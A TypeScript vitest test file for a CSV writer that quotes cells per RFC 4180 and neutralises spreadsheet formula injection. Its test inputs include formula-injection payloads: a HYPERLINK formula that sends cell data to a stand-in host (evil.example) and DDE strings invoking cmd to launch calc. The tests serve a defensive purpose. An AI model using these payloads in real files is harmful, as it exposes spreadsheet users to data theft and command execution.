import { describe, expect, it } from "vitest";
import { toCsv } from "./csv";

/** The one cell of a one-column CSV, as written (quoted if it needed quoting). */
const cell = (value: unknown) => toCsv([{ v: value }], ["v"]).slice("v\r\n".length, -"\r\n".length);

describe("toCsv", () => {
  it("writes a header line and one CRLF-ended line per row", () => {
    expect(
      toCsv(
        [
          { a: 1, b: "two" },
          { a: null, b: undefined },
        ],
        ["a", "b"],
      ),
    ).toBe("a,b\r\n1,two\r\n,\r\n");
  });

  it("quotes commas, quotes and line breaks as RFC 4180 says", () => {
    expect(cell('x, "y"')).toBe('"x, ""y"""');
    expect(cell("line one\nline two")).toBe('"line one\nline two"');
  });

  it.each([
    [
      '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"`,
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["  =1+1", "  '=1+1"],
    ["\t=1+1", "'\t'=1+1"],
    ["\tplain", "'\tplain"],
    ["\r=1+1", `"'\r'=1+1"`],
  ])("defuses a formula at the start of the cell: %j", (payload, written) => {
    expect(cell(payload)).toBe(written);
  });

  it.each([
    ['Jane;=HYPERLINK("https://evil.example")', `"Jane;'=HYPERLINK(""https://evil.example"")"`],
    ["Jane,=1+1", `"Jane,'=1+1"`],
    ["Jane; -2+3", "Jane; '-2+3"],
    ["Jane\t+1+1", "Jane\t'+1+1"],
    ["Jane|@SUM(A1)", "Jane|'@SUM(A1)"],
    ["Jane\n=1+1", `"Jane\n'=1+1"`],
    ["Jane\r\n=1+1", `"Jane\r\n'=1+1"`],
    ["Jane,,=1+1;;+2", `"Jane,,'=1+1;;'+2"`],
  ])("defuses a formula after any separator a spreadsheet may split on: %j", (payload, written) => {
    expect(cell(payload)).toBe(written);
  });

  it.each([
    "Quillmark Tech Staffing, Inc.",
    "jane.doe@example.com",
    "Well-known; well-liked",
    "Senior Recruiter - IT",
    "5 + 3 = 8",
    "Mumbai | Pune",
    "75",
  ])("keeps ordinary text as it is: %j", (text) => {
    expect(cell(text).replace(/^"|"$/g, "")).toBe(text);
  });
});
